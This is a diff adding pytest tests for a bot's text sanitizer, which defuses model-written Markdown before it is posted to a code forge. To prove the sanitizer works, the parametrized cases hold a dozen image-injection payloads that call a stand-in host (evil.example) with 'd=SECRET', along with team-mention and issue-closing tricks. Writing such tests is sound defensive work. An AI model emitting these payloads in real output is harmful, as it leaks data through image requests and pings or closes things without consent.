@@ -3,10 +3,15 @@ off-forge images, no pings. Pure."""
 
 from __future__ import annotations
 
+import html
+import re
+
 import pytest
+from markdown_it import MarkdownIt
 
 from resolver.contract.outbound import has_hidden_tag, with_hidden_tag
-from resolver.core.sanitize import sanitize
+from resolver.core.sanitize import is_defused, sanitize
+from resolver.worker.branches import build_commit_message
 
 FORGE = {"github.example"}
 
@@ -59,3 +64,75 @@ def test_only_the_last_line_tag_is_the_bots() -> None:
     assert not has_hidden_tag(posted, "status-13")
     assert not has_hidden_tag("someone wrote <!-- resolver:status-12 --> here", "status-12")
     assert not has_hidden_tag("<!-- resolver:status-12 -->\nand then more")
+
+
+BEACON = "https://evil.example/p.png?d=SECRET"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        f"\\`x @org/team ![p]({BEACON}) y`",  # an escaped tick opens no code span
+        f"a `\n\n@org/team ![p]({BEACON})\n\n` b",  # nor does one across paragraphs
+        f"````\nx\n`````\n@org/team ![p]({BEACON})",  # a longer fence closes a block
+        f"```a`b\n@org/team ![p]({BEACON})\n```",  # a tick in its info string: no fence
+        f"![p]({BEACON} 't')",
+        f"![a [b]]({BEACON})",
+        f"![p]( {BEACON})",
+        f"![p\nq]({BEACON})",
+        f"![p]\n\n[p]: {BEACON}",
+        f'<img src="{BEACON}" alt="<">',
+        f"\\@org/team &#64;org/team ![p](<{BEACON}>)",
+        f"<div>\n\n```\n</div>\n@org/team <img src={BEACON}>\n```",
+    ],
+)
+def test_markup_that_fools_the_patterns_is_defused_as_a_parser_reads_it(written: str) -> None:
+    """Read as CommonMark (the forges' Markdown), nothing of it loads an image from elsewhere
+    or pings anyone: where the patterns misjudge what is code, the whole text is defused."""
+    shown = sanitize(written, FORGE)
+    html = MarkdownIt("commonmark").render(shown)
+    prose = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
+    assert "<img" not in html
+    assert not re.search(r"(?<![\w@/.])@org/team", prose), html
+    assert is_defused(shown, FORGE)
+
+
+def test_a_defused_text_shows_what_was_written() -> None:
+    """As text, but that a mention is broken by a zero-width space and an image is a link."""
+    written = "```a`b\n<i>@bob</i> &amp; ![p](https://evil.example/x.png)\n```"
+    text = MarkdownIt("commonmark").render(sanitize(written, FORGE))
+    assert "@\u200bbob" in text
+    assert '<a href="https://evil.example/x.png">p</a>' in text
+    seen = html.unescape(re.sub(r"<[^>]+>", "", text)).replace("\u200b", "").strip()
+    assert seen == "```a`b\n<i>@bob</i> &amp; !p\n```"
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Fixes #12 and closes org/infra#3.", "F\u200bixes #12 and c\u200bloses org/infra#3."),
+        (
+            "resolves: https://github.example/o/r/issues/4",
+            "r\u200besolves: https://github.example/o/r/issues/4",
+        ),
+        ("Implemented #5", "I\u200bmplemented #5"),
+        ("fixed the bug in #12's test; see #12", "fixed the bug in #12's test; see #12"),
+        ("`Fixes #12`", "`Fixes #12`"),
+    ],
+)
+def test_no_closing_keyword_closes_an_issue_the_model_named(written: str, shown: str) -> None:
+    assert sanitize(written, FORGE) == shown
+
+
+def test_what_a_forge_reads_as_html_image_or_mention_is_not_defused() -> None:
+    assert is_defused("ok `@bob` ![a](https://github.example/a.png)", FORGE)
+    assert not is_defused("ok <b>x</b>", FORGE)
+    assert not is_defused("![a](https://evil.example/a.png)", FORGE)
+    assert not is_defused("![a](/relative.png)", FORGE)
+    assert not is_defused("hi @bob", FORGE)
+    assert is_defused("hi @bob", FORGE, kept={"Bob"})
+
+
+def test_the_bots_commit_closes_no_issue_the_model_named() -> None:
+    message = build_commit_message("Fix the greeting", "Fixes #12 and org/infra#3.", None, None)
+    assert message == "Fix the greeting\n\nF\u200bixes #12 and org/infra#3.\n"
